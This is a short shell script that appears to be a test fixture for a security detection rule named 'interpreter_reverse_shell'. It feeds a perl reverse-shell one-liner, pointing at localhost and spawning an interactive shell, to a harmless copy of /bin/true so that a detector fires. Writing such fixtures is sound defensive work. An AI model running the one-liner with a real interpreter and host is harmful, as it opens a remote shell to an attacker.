#!/bin/sh
# what: Asks a program called perl to give a shell to the network; it does nothing.
# rule: interpreter_reverse_shell
# technique: T1059.004
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cp /bin/true "$d/perl"
"$d/perl" -e 'use Socket; socket(S, PF_INET, SOCK_STREAM, 6); connect(S, sockaddr_in(9, inet_aton("127.0.0.1"))); exec("/bin/sh -i");'
